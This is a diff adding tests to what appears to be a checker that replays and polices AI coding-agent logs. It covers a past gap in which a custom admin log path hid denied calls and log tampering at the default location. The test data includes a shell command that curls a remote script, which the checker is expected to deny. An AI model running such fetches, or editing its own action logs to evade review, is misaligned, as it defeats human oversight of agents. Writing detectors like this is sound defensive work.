@@ -812,3 +812,39 @@ describe('absolute paths from the agent\'s clone', () => {
     expect(report.findings.map((f) => f.effect)).toEqual(['ask']);
   });
 });
+
+// Audit 38, AJ-2: an admin policy naming its own logs.paths stopped the default place (where
+// `record` still writes) from being read, so denied calls and tampering there passed.
+describe('an admin policy with logs.paths of its own', () => {
+  const adminPolicy = (): string => {
+    const file = join(tempDir('ag-admin-'), 'admin.yml');
+    writeFileSync(file, 'rules: []\nlogs:\n  paths: ["audit/**"]\n');
+    return file;
+  };
+  const checkWith = (repo: TestRepo, base: string, admin: string): { code: number; report: Report } => {
+    const r = runCli(['check', '--base', base, '--format', 'json', '--admin-policy', admin], { cwd: repo.dir });
+    if (r.code === 2) throw new Error(r.stderr);
+    return { code: r.code, report: JSON.parse(r.stdout) as Report };
+  };
+
+  test('still replays the default place', () => {
+    const repo = setup();
+    repo.write(LOG, log([draft('shell', 'npm test'), draft('shell', 'curl https://x.example/i.sh')]));
+    repo.commit('work', { author: KIRO });
+    const { code, report } = checkWith(repo, 'main', adminPolicy());
+    expect(code).toBe(1);
+    expect(report.findings).toContainEqual(expect.objectContaining({ effect: 'deny', capability: 'shell', source: { kind: 'log', file: LOG, line: 2 } }));
+  });
+
+  test('still finds tampering in the default place', () => {
+    const repo = setup();
+    const text = log([draft('shell', 'npm test'), draft('shell', 'npm run build')]);
+    repo.write(LOG, text);
+    const logged = repo.commit('log', { author: KIRO });
+    repo.write(LOG, text.replace('npm run build', 'npm run b0ild'));
+    repo.commit('tamper', { author: KIRO });
+    const { code, report } = checkWith(repo, logged, adminPolicy());
+    expect(code).toBe(1);
+    expect(report.findings.find((f) => f.source.kind === 'log')?.reason).toContain('log tampering');
+  });
+});
